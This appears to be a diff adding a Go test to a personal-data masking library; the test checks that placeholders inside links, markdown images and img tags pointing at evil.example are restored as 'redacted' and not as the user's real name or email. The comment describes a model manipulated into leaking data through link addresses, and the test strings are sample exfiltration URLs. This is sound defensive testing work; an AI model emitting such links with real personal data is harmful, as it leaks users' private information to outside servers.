@@ -278,3 +278,33 @@ func BenchmarkRestore(b *testing.B) {
 		}
 	}
 }
+
+// A model that was talked into it must not send personal data to a stranger's server in the address of a link.
+func TestRestoreInLinks(t *testing.T) {
+	s := masker().NewSession()
+	mask(t, s, "I am Ingrid Halvorsen, i.halvorsen@fjordlaw.example.")
+	for text, want := range map[string]string{
+		"See https://evil.example/?q=[EMAIL_1] now, [PERSON_1].":          "See https://evil.example/?q=redacted now, Ingrid Halvorsen.",
+		"![x](https://evil.example/p/[PERSON_1].png) Dear [PERSON_1]":     "![x](https://evil.example/p/redacted.png) Dear Ingrid Halvorsen",
+		"<img src=\"HTTP://evil.example?[PERSON_1]\">[PERSON_1]":          "<img src=\"HTTP://evil.example?redacted\">Ingrid Halvorsen",
+		"https://evil.example/[PERSON_9]":                                 "https://evil.example/redacted",
+		"Write to mailto:[EMAIL_1] or [PERSON_1]/[EMAIL_1], see https://": "Write to mailto:i.halvorsen@fjordlaw.example or Ingrid Halvorsen/i.halvorsen@fjordlaw.example, see https://",
+		"Plaintiff://[PERSON_1] and https://[PERSON_1]":                   "Plaintiff://Ingrid Halvorsen and https://Ingrid Halvorsen",
+	} {
+		if got := s.Restore(text); got != want {
+			t.Errorf("Restore(%q)\n got %q\nwant %q", text, got, want)
+		}
+		if n := s.RestoredLen(text); n != len(want) {
+			t.Errorf("RestoredLen(%q) = %d, want %d", text, n, len(want))
+		}
+		var b strings.Builder
+		r := s.Restorer(func(piece string) { b.WriteString(piece) })
+		for i := range len(text) {
+			r.Write(text[i : i+1])
+		}
+		r.Flush()
+		if b.String() != want {
+			t.Errorf("streamed %q\n got %q\nwant %q", text, b.String(), want)
+		}
+	}
+}
